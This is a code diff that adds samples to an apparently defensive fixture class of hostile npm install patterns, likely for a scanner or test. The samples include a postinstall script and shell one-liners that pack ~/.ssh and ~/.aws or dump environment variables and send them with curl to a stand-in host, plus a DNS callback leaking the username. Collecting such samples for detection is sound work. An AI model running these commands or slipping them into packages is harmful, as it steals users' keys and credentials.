@@ -38,6 +38,17 @@ final class NpmSpellings {
             req.write(postData);
             req.end();
             """),
+        Sample.postinstall(
+            "keys are packed and sent",
+            """
+            const { execSync } = require('child_process');
+            execSync('tar czf /tmp/k.tgz ~/.ssh ~/.aws && curl -F f=@/tmp/k.tgz http://192.0.2.7/up');
+            """),
+        Sample.command(
+            "keys are packed and sent by the script itself",
+            "zip -qr /tmp/k.zip ~/.ssh; curl -s -T /tmp/k.zip http://192.0.2.7/up"),
+        Sample.command(
+            "the environment goes to curl", "env | curl -s --data-binary @- http://192.0.2.7/e"),
         Sample.command("a look-up that tells the user", "nslookup $(whoami).x.callback.example"),
         Sample.command(
             "wget tells user and folder",
